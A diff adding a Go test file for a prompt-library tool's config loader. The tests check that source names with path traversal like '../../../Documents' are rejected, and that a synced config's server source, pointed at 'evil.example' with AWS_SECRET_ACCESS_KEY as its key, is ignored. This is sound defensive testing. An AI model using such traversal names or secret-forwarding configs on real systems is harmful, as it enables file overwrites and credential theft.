@@ -0,0 +1,114 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestAddMirror(t *testing.T) {
+	cfg := &Config{}
+	if err := cfg.AddMirror("awesome", "https://example.com/prompts.git", "main", "30m"); err != nil {
+		t.Fatalf("AddMirror: %v", err)
+	}
+	if source := cfg.FindSource("awesome"); source == nil || source.Kind() != "mirror" || source.Branch != "main" {
+		t.Fatalf("source = %+v, want a mirror on main", source)
+	}
+
+	for _, tc := range []struct{ name, url, refresh, want string }{
+		{"awesome", "https://example.com/other.git", "", "already exists"},
+		{"../../../Documents", "https://example.com/x.git", "", "path separators"},
+		{`..\x`, "https://example.com/x.git", "", "path separators"},
+		{"..", "https://example.com/x.git", "", "path separators"},
+		{LocalSourceName, "https://example.com/x.git", "", "reserved"},
+		{"nourl", "", "", "requires a git repository URL"},
+		{"slow", "https://example.com/x.git", "soon", "invalid refresh interval"},
+	} {
+		if err := cfg.AddMirror(tc.name, tc.url, "", tc.refresh); err == nil || !strings.Contains(err.Error(), tc.want) {
+			t.Errorf("AddMirror(%q) = %v, want an error containing %q", tc.name, err, tc.want)
+		}
+	}
+	if len(cfg.Sources) != 1 {
+		t.Errorf("sources = %+v, want only the valid mirror", cfg.Sources)
+	}
+}
+
+func TestLoadConfigRejectsSourceTraversal(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	t.Setenv("XDG_CONFIG_HOME", filepath.Join(home, ".config"))
+	library := t.TempDir()
+
+	// A synced config names a mirror that would be cloned outside the cache
+	data := []byte(`{"sources": [{"name": "../../../Documents", "mirror": "https://example.com/x.git"}]}`)
+	path := filepath.Join(library, ".pocket-prompt", "config.json")
+	if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+		t.Fatalf("MkdirAll: %v", err)
+	}
+	if err := os.WriteFile(path, data, 0644); err != nil {
+		t.Fatalf("WriteFile: %v", err)
+	}
+	if _, err := LoadConfig(library); err == nil || !strings.Contains(err.Error(), "path separators") {
+		t.Errorf("LoadConfig = %v, want the source name refused", err)
+	}
+	if _, err := CheckConfig(data); err == nil {
+		t.Error("CheckConfig accepted a source name with path separators")
+	}
+}
+
+func TestServerSourcesOnlyFromUserConfig(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	t.Setenv("XDG_CONFIG_HOME", filepath.Join(home, ".config"))
+	library := t.TempDir()
+
+	// A synced config sends a member's secret to a server of the pusher's choosing
+	data := []byte(`{"sources": [{"name": "evil", "url": "https://evil.example", "api_key_env": "AWS_SECRET_ACCESS_KEY"},
+		{"name": "team", "path": "/srv/team-prompts"}]}`)
+	path := filepath.Join(library, ".pocket-prompt", "config.json")
+	if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+		t.Fatalf("MkdirAll: %v", err)
+	}
+	if err := os.WriteFile(path, data, 0644); err != nil {
+		t.Fatalf("WriteFile: %v", err)
+	}
+	if warnings, err := CheckConfig(data); err != nil || len(warnings) != 1 || !strings.Contains(warnings[0], `source "evil" is ignored`) {
+		t.Errorf("CheckConfig = %q, %v; want the server source reported as ignored", warnings, err)
+	}
+	cfg, err := LoadConfig(library)
+	if err != nil {
+		t.Fatalf("LoadConfig: %v", err)
+	}
+	if cfg.FindSource("evil") != nil || cfg.FindSource("team") == nil {
+		t.Fatalf("sources = %+v; want only the directory source", cfg.Sources)
+	}
+
+	// A server added by the user is saved in their own file
+	if err := cfg.AddSource("acme", "https://prompts.acme.example", "ACME_PKT_KEY"); err != nil {
+		t.Fatalf("AddSource: %v", err)
+	}
+	if err := cfg.Save(); err != nil {
+		t.Fatalf("Save: %v", err)
+	}
+	saved, _ := os.ReadFile(path)
+	if strings.Contains(string(saved), "acme") || !strings.Contains(string(saved), "team") {
+		t.Errorf("library config:\n%s\nwant the directory source but not the server", saved)
+	}
+	cfg, err = LoadConfig(library)
+	if err != nil {
+		t.Fatalf("LoadConfig: %v", err)
+	}
+	if source := cfg.FindSource("acme"); source == nil || source.APIKeyEnv != "ACME_PKT_KEY" || cfg.FindSource("team") == nil {
+		t.Errorf("sources after reload = %+v", cfg.Sources)
+	}
+
+	// Removing it removes it from the user's file
+	cfg.RemoveSource("acme")
+	if err := cfg.Save(); err != nil {
+		t.Fatalf("Save: %v", err)
+	}
+	if cfg, err = LoadConfig(library); err != nil || cfg.FindSource("acme") != nil {
+		t.Errorf("sources after removal = %+v, %v", cfg.Sources, err)
+	}
+}